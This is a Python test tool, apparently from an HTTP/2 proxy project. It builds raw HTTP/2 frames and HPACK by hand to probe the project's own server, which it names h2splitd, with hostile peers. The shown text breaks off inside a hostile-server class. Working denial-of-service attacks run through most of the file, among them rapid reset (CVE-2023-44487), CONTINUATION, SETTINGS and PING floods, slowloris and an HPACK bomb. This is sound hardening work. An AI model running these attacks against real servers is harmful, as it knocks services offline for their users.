# SPDX-License-Identifier: Apache-2.0
"""Raw HTTP/2 for hostile-peer tests: frames and HPACK by hand, no h2 library.

Used two ways:
- imported by tests (and tests/fuzz/make_seeds.py) for the frame and HPACK
  encoders and the ``Conn`` client;
- run inside a test-bed pod (``python3 h2raw.py COMMAND ...``), printing one
  JSON object per line:

  attack NAME HOST PORT [--n N] [--streams K] [--seconds S] [--authority A]
      a hostile client (see ATTACKS); prints one summary: how the server
      ended the connection (goaway code, resets, eof) and what was sent
  serve MODE --port P [--rst-code NAME]
      a hostile HTTP/2 server (see SERVER_MODES; mcs1 and mcs0 advertise
      SETTINGS_MAX_CONCURRENT_STREAMS 1 and 0 and refuse streams over it);
      prints "ready", then one line per connection and per stream it answered
  echo --port P
      a TCP echo server (the L4 path must deliver bytes unchanged)
  send-raw HOST PORT HEX [--pause-ms MS] [--split N]
      send bytes (N first, pause, rest) and print what came back in --seconds

HPACK: the encoder emits literals without indexing (with incremental
indexing and indexed fields for the bomb); the decoder handles everything
except Huffman-coded strings, which it returns as None (enough to read
:status and the frames nghttp2 sends).
"""

import argparse
import json
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
               "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20

ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
          "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
          "HTTP_1_1_REQUIRED"]
CODE = {name: i for i, name in enumerate(ERRORS)}

S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, S_INITIAL_WINDOW_SIZE, \
    S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = range(1, 7)

MAX_STREAM_ID = 2**31 - 1


def err_name(code):
    return ERRORS[code] if 0 <= code < len(ERRORS) else f"0x{code:x}"


# ---- frames -----------------------------------------------------------------

def frame(ftype, flags, stream_id, payload=b"", length=None):
    """One frame; ``length`` overrides the header's length field (lies)."""
    n = len(payload) if length is None else length
    return struct.pack(">I", n)[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream_id & 0xFFFFFFFF) + payload


def settings(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0,
                 b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def ping(opaque=b"h2split!", ack=False):
    return frame(PING, ACK if ack else 0, 0, opaque)


def goaway(last_stream_id, code, debug=b""):
    return frame(GOAWAY, 0, 0, struct.pack(">II", last_stream_id, code) + debug)


def rst_stream(stream_id, code):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def data(stream_id, payload, end_stream=False):
    return frame(DATA, END_STREAM if end_stream else 0, stream_id, payload)


def headers(stream_id, block, end_stream=False, end_headers=True):
    flags = (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0)
    return frame(HEADERS, flags, stream_id, block)


def continuation(stream_id, block, end_headers=False):
    return frame(CONTINUATION, END_HEADERS if end_headers else 0, stream_id, block)


def priority(stream_id, depends_on, weight=16, exclusive=False):
    dep = depends_on | (0x80000000 if exclusive else 0)
    return frame(PRIORITY, 0, stream_id, struct.pack(">IB", dep, weight - 1))


def grpc_message(payload):
    """A gRPC length-prefixed message (uncompressed)."""
    return b"\0" + struct.pack(">I", len(payload)) + payload


def echo_request(header=None, payload=b""):
    """A request message of the test service h2split.test.Echo (testbed/echo.py)."""
    head = json.dumps(header or {}, separators=(",", ":")).encode()
    return grpc_message(head + b"\n" + payload)


# ---- HPACK ------------------------------------------------------------------

STATIC_TABLE = [
    (b":authority", b""), (b":method", b"GET"), (b":method", b"POST"), (b":path", b"/"),
    (b":path", b"/index.html"), (b":scheme", b"http"), (b":scheme", b"https"),
    (b":status", b"200"), (b":status", b"204"), (b":status", b"206"), (b":status", b"304"),
    (b":status", b"400"), (b":status", b"404"), (b":status", b"500"), (b"accept-charset", b""),
    (b"accept-encoding", b"gzip, deflate"), (b"accept-language", b""), (b"accept-ranges", b""),
    (b"accept", b""), (b"access-control-allow-origin", b""), (b"age", b""), (b"allow", b""),
    (b"authorization", b""), (b"cache-control", b""), (b"content-disposition", b""),
    (b"content-encoding", b""), (b"content-language", b""), (b"content-length", b""),
    (b"content-location", b""), (b"content-range", b""), (b"content-type", b""),
    (b"cookie", b""), (b"date", b""), (b"etag", b""), (b"expect", b""), (b"expires", b""),
    (b"from", b""), (b"host", b""), (b"if-match", b""), (b"if-modified-since", b""),
    (b"if-none-match", b""), (b"if-range", b""), (b"if-unmodified-since", b""),
    (b"last-modified", b""), (b"link", b""), (b"location", b""), (b"max-forwards", b""),
    (b"proxy-authenticate", b""), (b"proxy-authorization", b""), (b"range", b""),
    (b"referer", b""), (b"refresh", b""), (b"retry-after", b""), (b"server", b""),
    (b"set-cookie", b""), (b"strict-transport-security", b""), (b"transfer-encoding", b""),
    (b"user-agent", b""), (b"vary", b""), (b"via", b""), (b"www-authenticate", b""),
]


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 5.1 integer with an N-bit prefix; ``first`` holds the pattern bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    s = s.encode() if isinstance(s, str) else s
    return hpack_int(len(s), 7) + s


def lit(name, value):
    """Literal header field without indexing, new name (0000 0000)."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def lit_indexed_name(index, value):
    """Literal without indexing, name from table entry ``index``."""
    return hpack_int(index, 4) + hpack_str(value)


def lit_incremental(name, value):
    """Literal with incremental indexing, new name (adds a dynamic table entry)."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def indexed(index):
    return hpack_int(index, 7, 0x80)


def table_size_update(size):
    return hpack_int(size, 5, 0x20)


def encode(fields):
    """A header block of literals without indexing from [(name, value)]."""
    return b"".join(lit(n, v) for n, v in fields)


def request_fields(authority, path="/h2split.test.Echo/Unary", method="POST", extra=()):
    return [(":method", method), (":scheme", "http"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers"), *extra]


def response_fields(status="200", extra=()):
    return [(":status", status), ("content-type", "application/grpc"), *extra]


class Decoder:
    """HPACK decoder without Huffman (Huffman strings decode to None)."""

    def __init__(self, max_size=4096):
        self.dyn = []
        self.size = 0
        self.max_size = max_size

    @staticmethod
    def _int(buf, pos, prefix_bits):
        limit = (1 << prefix_bits) - 1
        v = buf[pos] & limit
        pos += 1
        if v < limit:
            return v, pos
        shift = 0
        while True:
            b = buf[pos]
            pos += 1
            v += (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                return v, pos

    def _str(self, buf, pos):
        huff = buf[pos] & 0x80
        n, pos = self._int(buf, pos, 7)
        s = bytes(buf[pos:pos + n])
        return (None if huff else s), pos + n

    def _get(self, i):
        if i <= 0:
            raise ValueError("index 0")
        if i <= len(STATIC_TABLE):
            return STATIC_TABLE[i - 1]
        return self.dyn[i - len(STATIC_TABLE) - 1]

    def _add(self, name, value):
        sz = len(name or b"") + len(value or b"") + 32
        self.dyn.insert(0, (name, value))
        self.size += sz
        while self.size > self.max_size and self.dyn:
            n, v = self.dyn.pop()
            self.size -= len(n or b"") + len(v or b"") + 32

    def decode(self, buf):
        out, pos = [], 0
        while pos < len(buf):
            b = buf[pos]
            if b & 0x80:
                i, pos = self._int(buf, pos, 7)
                out.append(self._get(i))
            elif b & 0x40 or (b & 0xF0) in (0x00, 0x10):
                incr = bool(b & 0x40)
                i, pos = self._int(buf, pos, 6 if incr else 4)
                name = self._get(i)[0] if i else None
                if not i:
                    name, pos = self._str(buf, pos)
                value, pos = self._str(buf, pos)
                if incr:
                    self._add(name, value)
                out.append((name, value))
            elif b & 0x20:
                self.max_size, pos = self._int(buf, pos, 5)
                while self.size > self.max_size and self.dyn:
                    n, v = self.dyn.pop()
                    self.size -= len(n or b"") + len(v or b"") + 32
        return out


# ---- a client connection ------------------------------------------------------

class Conn:
    """A raw HTTP/2 client connection with a reader thread.

    The reader parses every frame the server sends into ``frames`` and notes
    the first GOAWAY, every RST_STREAM, and how the connection ended
    (``end``: "eof", "reset" or None while open). ``read=False`` starts no
    reader (a client that never reads).
    """

    def __init__(self, host, port, timeout=10, read=True, rcvbuf=None):
        self.sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(timeout)
        self.sock.connect((host, port))
        self.frames = []
        self.goaway = None  # (last_stream_id, code, debug)
        self.rsts = {}
        self.end = None
        self.sent = 0
        self.cond = threading.Condition()
        self.decoder = Decoder()
        self.t0 = time.monotonic()
        self.end_at = None
        self.reader = None
        if read:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()

    def _read(self):
        buf = b""
        self.sock.settimeout(None)
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except ConnectionResetError:
                self._ended("reset")
                return
            except OSError:
                self._ended("closed")
                return
            if not chunk:
                self._ended("eof")
                return
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, flags = buf[3], buf[4]
                sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = buf[9:9 + n]
                buf = buf[9 + n:]
                self._frame(ftype, flags, sid, payload)

    def _frame(self, ftype, flags, sid, payload):
        with self.cond:
            if ftype == GOAWAY and self.goaway is None:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (last & 0x7FFFFFFF, code, payload[8:])
            elif ftype == RST_STREAM and len(payload) == 4:
                self.rsts[sid] = struct.unpack(">I", payload)[0]
            if len(self.frames) < 100000:
                self.frames.append((ftype, flags, sid, payload))
            self.cond.notify_all()

    def _ended(self, how):
        with self.cond:
            self.end = how
            self.end_at = time.monotonic()
            self.cond.notify_all()

    def send(self, *chunks):
        """Send bytes; False once the server has closed (EPIPE / reset)."""
        data_ = b"".join(chunks)
        try:
            self.sock.sendall(data_)
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            return False
        self.sent += len(data_)
        return True

    def wait(self, pred, timeout=10):
        """Wait until ``pred(self)`` is true (under the lock); return it."""
        deadline = time.monotonic() + timeout
        with self.cond:
            while True:
                v = pred(self)
                if v:
                    return v
                left = deadline - time.monotonic()
                if left <= 0:
                    return v
                self.cond.wait(min(left, 0.2))

    def handshake(self, pairs=(), timeout=10):
        """Preface + SETTINGS; wait for the server's SETTINGS and ACK them."""
        self.send(PREFACE, settings(pairs))
        ok = self.wait(lambda c: any(f[0] == SETTINGS and not f[1] & ACK for f in c.frames)
                       or c.end, timeout)
        if self.end or not ok:
            raise ConnectionError(f"no server SETTINGS (end={self.end})")
        self.send(settings(ack=True))
        return self.server_settings()

    def server_settings(self):
        with self.cond:
            for ftype, flags, _, p in self.frames:
                if ftype == SETTINGS and not flags & ACK:
                    return {k: v for k, v in (struct.unpack(">HI", p[i:i + 6])
                                              for i in range(0, len(p), 6))}
        return None

    def response_headers(self, sid):
        """Decoded fields of the first HEADERS on ``sid`` (no CONTINUATION support)."""
        with self.cond:
            for ftype, flags, s, p in self.frames:
                if ftype == HEADERS and s == sid:
                    if flags & PADDED:
                        p = p[1:len(p) - p[0]]
                    if flags & PRIORITY_FLAG:
                        p = p[5:]
                    return self.decoder.decode(p)
        return None

    def stream_ended(self, sid):
        with self.cond:
            return sid in self.rsts or any(
                f[2] == sid and f[0] in (HEADERS, DATA) and f[1] & END_STREAM
                for f in self.frames)

    def wait_closed(self, timeout=10):
        """Wait for the server to end the connection (GOAWAY alone is not enough)."""
        return self.wait(lambda c: c.end, timeout)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def summary(self):
        with self.cond:
            counts = {}
            for f in self.frames:
                name = FRAME_NAMES[f[0]] if f[0] < len(FRAME_NAMES) else str(f[0])
                counts[name] = counts.get(name, 0) + 1
            rst_codes = {}
            for code in self.rsts.values():
                rst_codes[err_name(code)] = rst_codes.get(err_name(code), 0) + 1
            return {
                "goaway": None if self.goaway is None else {
                    "last_stream_id": self.goaway[0], "code": err_name(self.goaway[1]),
                    "debug": self.goaway[2].decode(errors="replace")},
                "end": self.end,
                "closed_after_s": None if self.end_at is None else
                round(self.end_at - self.t0, 3),
                "rst": rst_codes,
                "frames": counts,
                "data_bytes": sum(len(f[3]) for f in self.frames if f[0] == DATA),
                "bytes_sent": self.sent,
            }


# ---- attacks ------------------------------------------------------------------

def _req(conn, sid, authority, end_stream=True, path="/h2split.test.Echo/Unary"):
    return headers(sid, encode(request_fields(authority, path)), end_stream=end_stream)


def attack_rapid_reset(a):
    """CVE-2023-44487: HEADERS (a complete request) then RST_STREAM(CANCEL), over and over."""
    c = Conn(a.host, a.port)
    c.handshake()
    block = encode(request_fields(a.authority))
    sid, pairs = 1, 0
    while pairs < a.n and c.end is None and sid < MAX_STREAM_ID - 2000:
        batch = []
        for _ in range(1000):
            body = data(sid, echo_request(), end_stream=True)
            batch.append(headers(sid, block) + body + rst_stream(sid, CODE["CANCEL"]))
            sid += 2
        if not c.send(*batch):
            break
        pairs += len(batch)
    c.wait_closed(a.seconds)
    out = c.summary()
    out["streams_reset"] = pairs
    return c, out


def attack_continuation_flood(a):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end."""
    c = Conn(a.host, a.port)
    c.handshake()
    first = encode(request_fields(a.authority))
    sent = 0
    ok = c.send(headers(1, first, end_stream=True, end_headers=False))
    filler = lit("x-flood", "a" * 100)
    chunk = continuation(1, filler * 10) * 50
    while ok and sent < a.n and c.end is None:
        ok = c.send(chunk)
        sent += 50
    c.wait_closed(a.seconds)
    out = c.summary()
    out["continuations_sent"] = sent
    return c, out


def attack_settings_flood(a):
    """SETTINGS frames as fast as possible (each one owes the client an ACK)."""
    c = Conn(a.host, a.port)
    c.handshake()
    chunk = settings([(S_ENABLE_PUSH, 0)]) * 1000
    sent, ok = 0, True
    while ok and sent < a.n and c.end is None:
        ok = c.send(chunk)
        sent += 1000
    c.wait_closed(a.seconds)
    out = c.summary()
    out["settings_sent"] = sent
    return c, out


def attack_ping_flood(a):
    """PING frames as fast as possible (each one owes the client a PING ACK)."""
    c = Conn(a.host, a.port)
    c.handshake()
    chunk = ping() * 1000
    sent, ok = 0, True
    while ok and sent < a.n and c.end is None:
        ok = c.send(chunk)
        sent += 1000
    c.wait_closed(a.seconds)
    out = c.summary()
    out["pings_sent"] = sent
    return c, out


def attack_zero_window(a):
    """Open --streams ServerStream RPCs asking for lots of data with an initial
    window of 0 and never grant any; hold for --seconds."""
    c = Conn(a.host, a.port)
    c.handshake([(S_INITIAL_WINDOW_SIZE, 0)])
    block = encode(request_fields(a.authority, "/h2split.test.Echo/ServerStream"))
    req = echo_request({"count": a.n, "size": 65536})
    for i in range(a.streams):
        sid = 2 * i + 1
        c.send(headers(sid, block), data(sid, req, end_stream=True))
    print(json.dumps({"holding": a.streams}), flush=True)
    c.wait(lambda x: x.end, a.seconds)
    out = c.summary()
    out["streams"] = a.streams
    return c, out


def attack_never_read(a):
    """Big windows, many ServerStream RPCs, and never read the socket at all."""
    c = Conn(a.host, a.port, read=False, rcvbuf=65536)
    c.send(PREFACE, settings([(S_INITIAL_WINDOW_SIZE, MAX_STREAM_ID)]),
           window_update(0, MAX_STREAM_ID - 65535), settings(ack=True))
    block = encode(request_fields(a.authority, "/h2split.test.Echo/ServerStream"))
    req = echo_request({"count": a.n, "size": 65536})
    for i in range(a.streams):
        sid = 2 * i + 1
        c.send(headers(sid, block), data(sid, req, end_stream=True))
    print(json.dumps({"holding": a.streams}), flush=True)
    time.sleep(a.seconds)  # the point: doing nothing at all
    out = c.summary()
    out["streams"] = a.streams
    return c, out


def attack_slowloris(a):
    """--streams connections send the preface, SETTINGS and one request,
    trickling byte by byte (--pause-ms apart) the part --trickle names
    ("preface": only the preface, "request": everything after it, "all");
    each then waits for its response."""
    block = encode(request_fields(a.authority))
    rest = settings() + headers(1, block) + data(1, echo_request(), end_stream=True)
    slow = {"preface": PREFACE, "request": rest, "all": PREFACE + rest}[a.trickle]
    before = b"" if a.trickle in ("preface", "all") else PREFACE
    after = rest if a.trickle == "preface" else b""
    conns = [Conn(a.host, a.port) for _ in range(a.streams)]
    for c in conns:
        if before:
            c.send(before)
    t0 = time.monotonic()
    for i in range(len(slow)):
        for c in conns:
            c.send(slow[i:i + 1])
        time.sleep(a.pause_ms / 1000)
    trickle_s = time.monotonic() - t0
    for c in conns:
        if after:
            c.send(after)
    for c in conns:
        c.wait(lambda x: x.stream_ended(1) or x.end, a.seconds)
    statuses, who = {}, {}
    for c in conns:
        h = c.response_headers(1)
        st = (dict(h).get(b":status") or b"?").decode() if h else None
        statuses[str(st)] = statuses.get(str(st), 0) + 1
        s = c.server_settings() or {}
        # h2splitd advertises MAX_CONCURRENT_STREAMS 1000; the gRPC backends do not.
        w = "h2splitd" if s.get(S_MAX_CONCURRENT_STREAMS) == 1000 else "backend"
        who[w] = who.get(w, 0) + 1
        c.close()
    out = conns[0].summary()
    out.update({"connections": len(conns), "statuses": statuses, "answered_by": who,
                "trickle_s": round(trickle_s, 2)})
    return conns[0], out


def attack_hpack_bomb(a):
    """One 4 KiB header put in the dynamic table, then referenced by 1-byte
    indexed fields: each HEADERS frame of 16 KiB decodes to ~64 MiB of header
    list. --streams streams, then one honest request on the same connection."""
    c = Conn(a.host, a.port)
    c.handshake()
    big = lit_incremental("x-bomb", "b" * 4000)  # entry size 4038: fits 4096
    req = encode(request_fields(a.authority))
    sid = 1
    refs = indexed(62) * 16000
    for i in range(a.streams):
        block = req + (big if i == 0 else b"") + refs
        # split into 16 KiB frames: HEADERS + CONTINUATION(s)
        parts = [block[j:j + 16384] for j in range(0, len(block), 16384)]
        wire = headers(sid, parts[0], end_stream=True, end_headers=len(parts) == 1)
        for k, p in enumerate(parts[1:], 1):
            wire += continuation(sid, p, end_headers=k == len(parts) - 1)
        if not c.send(wire):
            break
        sid += 2
    last_bomb = sid - 2
    c.wait(lambda x: x.stream_ended(last_bomb) or x.end, a.seconds)
    # The connection (and its HPACK state) should still serve an honest request.
    c.send(headers(sid, req), data(sid, echo_request(), end_stream=True))
    c.wait(lambda x: x.stream_ended(sid) or x.end, a.seconds)
    out = c.summary()
    h = c.response_headers(sid)
    out["honest_status"] = (dict(h).get(b":status") or b"?").decode() if h else None
    out["bombs"] = a.streams
    return c, out


def attack_stream_ids(a):
    """A request on stream 2^31-1 (the last id a client has), then requests on
    a lower id and on 2^31+1 (the reserved bit set: id 1 again), then a PING."""
    c = Conn(a.host, a.port)
    c.handshake()
    req = encode(request_fields(a.authority))
    c.send(headers(MAX_STREAM_ID, req), data(MAX_STREAM_ID, echo_request(), end_stream=True))
    c.wait(lambda x: x.stream_ended(MAX_STREAM_ID) or x.end, a.seconds)
    h = c.response_headers(MAX_STREAM_ID)
    top_status = (dict(h).get(b":status") or b"?").decode() if h else None
    for sid in (5, 2**31 + 1):
        c.send(headers(sid, req), data(sid & MAX_STREAM_ID, echo_request(), end_stream=True))
    c.send(ping(b"after-id"))
    c.wait(lambda x: x.end or any(f[0] == PING and f[1] & ACK for f in x.frames), a.seconds)
    c.wait(lambda x: x.end, 0.5)
    out = c.summary()
    out["top_stream_status"] = top_status
    out["answered_after_top"] = sorted({f[2] for f in c.frames
                                        if f[0] == HEADERS and f[2] != MAX_STREAM_ID})
    out["ping_ack"] = any(f[0] == PING and f[1] & ACK for f in c.frames)
    return c, out


def attack_request(a):
    """One honest Unary request, with --authority as given (and a host header
    saying the same): what status came back?"""
    c = Conn(a.host, a.port)
    c.handshake()
    fields = request_fields(a.authority, extra=[("host", a.authority)])
    c.send(headers(1, encode(fields)), data(1, echo_request(), end_stream=True))
    c.wait(lambda x: x.stream_ended(1) or x.end, a.seconds)
    out = c.summary()
    h = c.response_headers(1)
    out["status"] = (dict(h).get(b":status") or b"?").decode() if h else None
    return c, out


def _status(c, sid):
    h = c.response_headers(sid)
    return (dict(h).get(b":status") or b"?").decode() if h else None


def _honest_request(c, sid, authority, seconds):
    """After a stream error: does the same connection still serve a request?"""
    c.send(headers(sid, encode(request_fields(authority))),
           data(sid, echo_request(), end_stream=True))
    c.wait(lambda x: x.stream_ended(sid) or x.end, seconds)
    return _status(c, sid)


def _connections(a):
    """--n connections at once from this pod: how many were served (server
    SETTINGS arrived) and how many refused; then all closed, how long until
    a new one is served again."""
    conns, served, refused = [], 0, []
    for _ in range(a.n):
        c = None
        try:
            c = Conn(a.host, a.port)
            c.handshake(timeout=5)
            served += 1
        except (ConnectionError, OSError) as e:  # the reset may come as early as connect()
            refused.append(c.end if c and c.end else type(e).__name__)
        if c:
            conns.append(c)
    for c in conns:  # shutdown: close() alone waits for the reader thread's recv()
        try:
            c.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        c.close()
    deadline, again, c = time.monotonic() + a.seconds, None, None
    while again is None and time.monotonic() < deadline:
        if c:
            time.sleep(0.05)  # retry interval while the daemon sees the closes
        try:
            c = Conn(a.host, a.port)
            c.handshake(timeout=5)
            again = round(time.monotonic() - (deadline - a.seconds), 3)
            c.send(headers(1, encode(request_fields(a.authority))),
                   data(1, echo_request(), end_stream=True))
            c.wait(lambda x: x.stream_ended(1) or x.end, a.seconds)
        except (ConnectionError, OSError):
            if c:
                c.close()
    return c, {"served": served, "refused": refused, "served_again_after_s": again,
               "status_after": _status(c, 1) if again is not None else None}


def attack_limit(a):
    """--case NAME: run into one of h2splitd's limits (which the test set low)
    on one connection; --n sizes the attempt:
    headers       a request with --n extra header fields, then an honest one
    header-list   a request with one header value of --n bytes, then an honest one
    concurrent    --n requests left open (HEADERS without END_STREAM)
    control-rate  --n WINDOW_UPDATE frames on stream 0 in one burst
    pending       a request, then --n body bytes without reading a window update
    idle          a handshake, then nothing (until the server ends it)
    slow-headers  half of a HEADERS frame, then nothing
    connections   --n connections at once (see _connections)"""
    if a.case == "connections":
        c, out = _connections(a)
        out["case"] = a.case
        return c, out
    c = Conn(a.host, a.port)
    c.handshake()
    c.wait(lambda x: any(f[0] == SETTINGS and f[1] & ACK for f in x.frames), 5)
    t0 = time.monotonic()
    out_extra = {}
    if a.case in ("headers", "header-list"):
        extra = ([(f"x-h{i}", "v") for i in range(a.n)] if a.case == "headers"
                 else [("x-big", "b" * a.n)])
        c.send(headers(1, encode(request_fields(a.authority, extra=extra)), end_stream=True))
        c.wait(lambda x: x.stream_ended(1) or x.end, a.seconds)
        out_extra["status"] = _status(c, 1)
        out_extra["honest_status"] = None if c.end else _honest_request(c, 3, a.authority,
                                                                         a.seconds)
    elif a.case == "concurrent":
        block = encode(request_fields(a.authority))
        c.send(*(headers(1 + 2 * i, block) for i in range(a.n)))
        c.wait(lambda x: x.end, a.seconds)
    elif a.case == "control-rate":
        c.send(window_update(0, 1) * a.n)
        c.wait(lambda x: x.end, a.seconds)
    elif a.case == "pending":
        c.send(headers(1, encode(request_fields(a.authority))))
        left = a.n
        while left > 0 and not c.end:
            n = min(left, 16384)
            c.send(data(1, b"p" * n))
            left -= n
        c.wait(lambda x: x.rsts or x.end, a.seconds)
    elif a.case == "idle":
        c.wait(lambda x: x.end, a.seconds)
    elif a.case == "slow-headers":
        block = encode(request_fields(a.authority))
        c.send(headers(1, block, end_stream=True)[:9 + len(block) // 2])
        c.wait(lambda x: x.end, a.seconds)
    else:
        raise SystemExit(f"unknown --case {a.case}")
    out = c.summary()
    out.update(out_extra, case=a.case, waited_s=round(time.monotonic() - t0, 3))
    return c, out


ATTACKS = {
    "limit": attack_limit,
    "rapid-reset": attack_rapid_reset,
    "continuation-flood": attack_continuation_flood,
    "settings-flood": attack_settings_flood,
    "ping-flood": attack_ping_flood,
    "zero-window": attack_zero_window,
    "never-read": attack_never_read,
    "slowloris": attack_slowloris,
    "hpack-bomb": attack_hpack_bomb,
    "stream-ids": attack_stream_ids,
    "request": attack_request,
}


def invalid_cases(authority):
    """name -> (bytes sent after the handshake, stream-level?) for protocol errors."""
    req = encode(request_fields(authority))
    msg = echo_request()
    return {
        "data-on-stream-0": frame(DATA, 0, 0, b"x"),
        "headers-on-stream-0": headers(0, req),
        "even-stream-id": headers(2, req, end_stream=True),
        "oversized-frame": data(1, b"x" * 16385),
        "ping-wrong-length": frame(PING, 0, 0, b"1234567"),
        "settings-wrong-length": frame(SETTINGS, 0, 0, b"12345"),
        "settings-ack-with-payload": frame(SETTINGS, ACK, 0, struct.pack(">HI", 1, 1)),
        "settings-enable-push-2": settings([(S_ENABLE_PUSH, 2)]),
        "settings-window-too-big": settings([(S_INITIAL_WINDOW_SIZE, 2**31)]),
        "settings-max-frame-too-small": settings([(S_MAX_FRAME_SIZE, 100)]),
        "window-update-zero": window_update(0, 0),
        "window-update-overflow": window_update(0, MAX_STREAM_ID),
        "hpack-bad-index": headers(1, indexed(300), end_stream=True),
        "hpack-truncated": headers(1, b"\x00\x7f", end_stream=True),
        "continuation-without-headers": continuation(1, req, end_headers=True),
        "headers-then-other-frame": headers(1, req, end_headers=False) + ping(),
        "push-promise-from-client": frame(PUSH_PROMISE, END_HEADERS, 1,
                                          struct.pack(">I", 2) + req),
        "rst-on-idle-stream": rst_stream(5, CODE["CANCEL"]),
        "data-on-idle-stream": data(7, b"x"),
        "window-update-overflow-stream": headers(1, req) + window_update(1, MAX_STREAM_ID),
        "data-exceeds-window": headers(1, req) + b"".join(
            data(1, grpc_message(b"x" * 16379)) for _ in range(128)),
        "data-after-end-stream": headers(1, req) + data(1, msg, end_stream=True) +
        data(1, msg),
        "priority-self-dependency": priority(1, 1),
        "uppercase-header-name": headers(1, encode(request_fields(authority) +
                                                   [("X-Upper", "1")]), end_stream=True),
        "connection-header": headers(1, encode(request_fields(authority) +
                                               [("connection", "keep-alive")]),
                                     end_stream=True),
        "missing-method": headers(1, encode([(":scheme", "http"), (":path", "/"),
                                             (":authority", authority)]), end_stream=True),
        "content-length-mismatch": headers(1, encode(request_fields(authority) +
                                                     [("content-length", "1")])) +
        data(1, msg, end_stream=True),
        "unknown-frame-type": frame(0xFA, 0, 0, b"ignore me") + ping(b"survived"),
        # RFC 9113 5.1.1: 5 first closes 1 and 3 unopened; a HEADERS on 3 is then
        # a connection error, not a new stream.
        "headers-lower-stream-id": headers(5, req, end_stream=True) +
        headers(3, req, end_stream=True),
        # ... but trailers on an open stream below the newest are the normal case.
        "trailers-lower-open-stream": headers(1, req) + data(1, msg) +
        headers(3, req, end_stream=True) +
        headers(1, encode([("x-trailer", "1")]), end_stream=True) + ping(b"trailers"),
    }


def invalid_one(a, case):
    c = Conn(a.host, a.port)
    if case == "first-frame-not-settings":
        c.send(PREFACE, ping())
    else:
        c.handshake()
        c.wait(lambda x: any(f[0] == SETTINGS and f[1] & ACK for f in x.frames), 5)
        c.send(invalid_cases(a.authority)[case])
    # Either the connection ends, or (stream errors) a reset / PING ACK arrives.
    c.wait(lambda x: x.end or x.rsts or any(f[0] == PING and f[1] & ACK for f in x.frames),
           a.seconds)
    # Give a connection error time to follow a stream error, then look.
    c.wait(lambda x: x.end, 0.3)
    out = c.summary()
    out["case"] = case
    out["ping_ack"] = any(f[0] == PING and f[1] & ACK for f in c.frames)
    c.close()
    return out


def attack_invalid(a):
    """--case NAME[,NAME...] (see invalid_cases, plus first-frame-not-settings),
    each on its own connection: how did the server answer?"""
    cases = a.case.split(",")
    results = {case: invalid_one(a, case) for case in cases}
    c = Conn(a.host, a.port)  # still serving?
    c.handshake()
    return c, {"cases": results, "after": "served"}


# ---- hostile servers ------------------------------------------------------------

SERVER_MODES = ("silent", "reset", "malformed", "garbage", "mid-body", "no-trailers", "mcs1",
                "mcs0")


class ServerConn:
    """One connection accepted by a hostile server: reads the client's frames
    (after its preface) and lets the mode answer each new stream."""

    def __init__(self, sock, peer, mode, args):
        self.sock, self.peer, self.mode, self.args = sock, peer, mode, args
        self.out = threading.Lock()

    def log(self, **kw):
        print(json.dumps({"peer": self.peer[0], **kw}), flush=True)

    def send(self, b):
        with self.out:
            try:
                self.sock.sendall(b)
            except OSError:
                pass

    def run(self):
        self.log(event="accepted")
        buf, seen_preface, open_streams = b"", False, set()
        self.busy = None  # mcs1: the one stream being answered
        if self.mode != "silent":
            mcs = {"mcs1": 1, "mcs0": 0}.get(self.mode, 100)
            self.send(settings([(S_MAX_CONCURRENT_STREAMS, mcs)]))
        while True:
            try:
                chunk = self.sock.recv(65536)
            except OSError:
                chunk = b""
            if not chunk:
                self.log(event="closed")
                return
            if self.mode == "silent":
                continue  # read everything, answer nothing (not even SETTINGS)
            buf += chunk
            if not seen_preface:
                if len(buf) < len(PREFACE):
                    continue
                buf, seen_preface = buf[len(PREFACE):], True
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, flags = buf[3], buf[4]
